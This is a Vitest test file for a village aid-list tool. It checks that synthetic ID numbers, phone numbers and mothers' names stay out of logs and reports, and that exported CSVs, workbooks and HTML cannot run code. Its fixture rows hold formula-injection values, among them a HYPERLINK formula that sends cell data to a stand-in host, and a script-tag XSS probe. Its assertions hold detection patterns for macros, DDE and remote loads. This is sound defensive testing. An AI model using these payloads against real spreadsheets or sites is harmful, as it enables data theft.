import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { inflateSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Ran, runMain } from '../support/run-main.ts';

/** Outputs that carry full data, since that is their purpose; everything else must not. */
const OPEN = /^(?:upload|returned|lampiran|attachment)/;
/** The paper that needs full NIKs: the decree with its list. All others are handed around or hung up. */
const DECREE = '4 Keputusan Perbekel';

const SECRETS = {
  nik: ['5171031708859001', '5171035208909002', '5171031203919003', '5171030101809004'],
  'nomor KK': ['5171032001159123', '5171032001159124'],
  phone: ['081399900011', '81399900011', '081399900012', '81399900012'],
  mother: ['NI RAHASIA SATU', 'NI RAHASIA DUA'],
};
const HEADING =
  'NO,NIK,NOMOR KK,NAMA LENGKAP,TEMPAT LAHIR,TANGGAL LAHIR,JENIS KELAMIN,ALAMAT,PEKERJAAN,NAMA IBU KANDUNG,NO HP';
const ROWS = [
  '1,5171031708859001,5171032001159123,I Wayan Sudana,Denpasar,17-08-1985,L,Br. Kaja,Pedagang,NI RAHASIA SATU,081399900011',
  '2,5171035208909002,5171032001159123,Ni Made Sari,Denpasar,12-08-1990,P,=HYPERLINK("http://x/?"&A1),Pedagang,NI RAHASIA DUA,081399900012',
  '3,5171031203919003,5171032001159124,+I Ketut Alit,Denpasar,12-03-1991,L,@SUM(1),Pedagang,,',
  '4,5171030101809004,5171032001159124,<script>alert(1)</script>,Denpasar,02-01-1980,L,-2+3,Pedagang,,08139990',
  '5,5171031708859001,,I Wayan Sudana,Denpasar,17-08-1985,L,Br. Kaja,Pedagang,,',
];

let root: string;
const runs: Record<string, Ran> = {};
const outputs: { path: string; kind: string; bytes: Buffer }[] = [];

/** All text of a file, also inside workbooks and documents. */
function textOf(bytes: Uint8Array): string {
  const buffer = Buffer.from(bytes);
  if (buffer.subarray(0, 4).toString('latin1') === '%PDF') return textOfPdf(buffer);
  if (buffer.subarray(0, 2).toString('latin1') !== 'PK') return buffer.toString('utf8');
  return Object.entries(unzipSync(buffer))
    .map(([name, part]) => `${name}\n${textOf(part)}`)
    .join('\n');
}

/** What a page prints, and every stream as it stands; letters of one line are written as hex between kernings. */
function textOfPdf(pdf: Buffer): string {
  const streams: string[] = [pdf.toString('latin1')];
  for (let at = pdf.indexOf('stream\n'); at >= 0; at = pdf.indexOf('stream\n', at + 1)) {
    const end = pdf.indexOf('endstream', at);
    try {
      streams.push(inflateSync(pdf.subarray(at + 7, end)).toString('latin1'));
    } catch {
      // No compressed stream, or the end of one.
    }
  }
  const printed = streams.map((stream) =>
    stream.replace(/\[((?:<[0-9a-fA-F]*>|[-\d.\s])*)\]\s*TJ/g, (_, line: string) =>
      [...line.matchAll(/<([0-9a-fA-F]*)>/g)]
        .map(([, hex = '']) => Buffer.from(hex, 'hex').toString('latin1'))
        .join(''),
    ),
  );
  return [...streams, ...printed].join('\n');
}

/** Word splits a text as it likes; what is read is the text. */
const withoutTags = (text: string): string => `${text}\n${text.replace(/<[^>]*>/g, '')}`;

const foundIn = (text: string): string[] =>
  Object.entries(SECRETS).flatMap(([kind, words]) =>
    words.some((word) => text.includes(word)) ? [kind] : [],
  );

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'rahasia-'));
  fs.mkdirSync(path.join(root, 'nominasi'));
  const list = path.join(root, 'nominasi', 'Desa Tegal Harum 5171031708859001.csv');
  fs.writeFileSync(list, [HEADING, ...ROWS].join('\n'));
  fs.writeFileSync(
    path.join(root, 'desa.csv'),
    'kode,nama,kuota,sumber,pagu,alokasi\n51.71.03.2008,Tegal Harum,2,DDS,373456000,20160000\n',
  );
  const umask = process.umask(0);
  try {
    runs['run'] = await runMain(['run', root]);
    runs['run --json'] = await runMain(['run', root, '--json']);
    runs['validate'] = await runMain(['validate', root, '--annotate', path.join(root, 'kembali')]);
    runs['validate --json'] = await runMain(['validate', root, '--json']);
    runs['select'] = await runMain(['select', root]);
    runs['refused'] = await runMain(['run', path.join(root, '5171031708859001')]);
    runs['report'] = await runMain(['report', root]);
    runs['report --papers'] = await runMain(['report', root, '--papers']);
    runs['audit'] = await runMain(['audit', 'verify', root]);
  } finally {
    process.umask(umask);
  }
  for (const name of ['hasil', 'laporan', 'surat']) {
    const folder = path.join(root, name);
    const manifest = JSON.parse(fs.readFileSync(path.join(folder, 'manifest.json'), 'utf8'));
    for (const { path: at, kind } of manifest.files)
      outputs.push({ path: `${name}/${at}`, kind, bytes: fs.readFileSync(path.join(folder, at)) });
  }
});
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

describe('data of people stays where it belongs', () => {
  it('is in the files whose purpose it is, so that this test looks at something', () => {
    const returned = outputs.find(({ kind }) => kind === 'returned');
    expect(foundIn(textOf(returned?.bytes ?? new Uint8Array()))).toContain('nik');
  });

  it.each([
    'run',
    'run --json',
    'validate',
    'validate --json',
    'select',
    'report',
    'report --papers',
    'refused',
    'audit',
  ])('is not shown by %s', (name) => {
    const { stdout, stderr, status } = runs[name] ?? { stdout: '', stderr: '', status: -1 };
    expect(stdout + stderr, 'it says something').not.toBe('');
    expect([0, 1, 2]).toContain(status);
    expect(foundIn(stdout + stderr)).toEqual([]);
  });

  it('is not in any other result', () => {
    const found = outputs
      .filter(({ kind }) => !OPEN.test(kind))
      .flatMap(({ path: at, kind, bytes }) =>
        foundIn(withoutTags(textOf(bytes))).map((what) => `${kind} ${at}: ${what}`),
      );
    expect(found).toEqual([]);
  });

  it('is in one paper only, the decree with its list', () => {
    const papers = outputs.filter(({ path: at }) => at.startsWith('surat/'));
    expect(papers.filter(({ path: at }) => at.endsWith('.pdf'))).toHaveLength(7);
    const held = (bytes: Uint8Array): string[] => foundIn(withoutTags(textOf(bytes)));
    const open = papers
      .filter(({ bytes }) => held(bytes).includes('nik'))
      .map(({ path: at }) => path.basename(at));
    expect(open.sort()).toEqual([`${DECREE}.docx`, `${DECREE}.pdf`]);
    // Nobody's mother, phone or family card is asked for by any of them, the decree too.
    const more = papers.flatMap(({ bytes }) => held(bytes));
    expect(new Set(more)).toEqual(new Set(['nik']));
  });

  it('is not in the manifest, the trail, or the name of a result', () => {
    const texts = [
      'hasil/manifest.json',
      'laporan/manifest.json',
      'surat/manifest.json',
      'riwayat.jsonl',
    ].map((file) => fs.readFileSync(path.join(root, file), 'utf8'));
    const names = [
      ...outputs.map(({ path: at }) => at),
      ...fs.readdirSync(path.join(root, 'kembali')),
    ];
    expect(foundIn([...texts, ...names].join('\n'))).toEqual([]);
  });

  it('may be read by its owner only', () => {
    const open = ['hasil', 'kembali', 'laporan', 'surat', 'riwayat.jsonl'].flatMap((name) => {
      const at = path.join(root, name);
      const below = fs.statSync(at).isDirectory()
        ? fs.readdirSync(at, { recursive: true, encoding: 'utf8' })
        : [];
      return [at, ...below.map((file) => path.join(at, file))].filter(
        (file) => (fs.statSync(file).mode & 0o077) !== 0,
      );
    });
    expect(open).toEqual([]);
  });
});

describe('nothing written can run', () => {
  it('no cell of a CSV begins like a formula', () => {
    const cells = outputs
      .filter(({ path: at }) => at.endsWith('.csv'))
      .flatMap(({ path: at, bytes }) =>
        (parse(bytes, { bom: true, relax_column_count: true }) as string[][])
          .flat()
          .filter((cell) => /^[=+\-@\t\r\0]/.test(cell) && !/^-?\d+$/.test(cell))
          .map((cell) => `${at}: ${cell}`),
      );
    expect(cells).toEqual([]);
  });

  it('no workbook holds a formula made of data', () => {
    const formulas = outputs
      .filter(({ path: at }) => at.endsWith('.xlsx'))
      .flatMap(({ path: at, bytes }) =>
        [...textOf(bytes).matchAll(/<f[ >][^<]*<\/f>/g)]
          .map(([formula]) => formula)
          .filter((formula) => /HYPERLINK|http|SUM\(1\)|2\+3|Ketut|DDE|cmd/i.test(formula))
          .map((formula) => `${at}: ${formula}`),
      );
    expect(formulas).toEqual([]);
  });

  it('no workbook holds a macro or a link to elsewhere', () => {
    const parts = outputs
      .filter(({ path: at }) => at.endsWith('.xlsx'))
      .flatMap(({ path: at, bytes }) =>
        Object.keys(unzipSync(bytes))
          .filter((part) => /vbaProject|externalLink|activeX|embeddings/i.test(part))
          .map((part) => `${at}: ${part}`),
      );
    expect(parts).toEqual([]);
  });

  it('no page holds markup made of data, and none loads anything', () => {
    const pages = outputs.filter(({ path: at }) => at.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(0);
    for (const { bytes } of pages) {
      const page = bytes.toString('utf8');
      expect(page).not.toContain('<script>alert(1)');
      expect(page).not.toMatch(/(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i);
      expect(page).not.toMatch(/@import|url\(\s*["']?https?:/i);
    }
  });
});
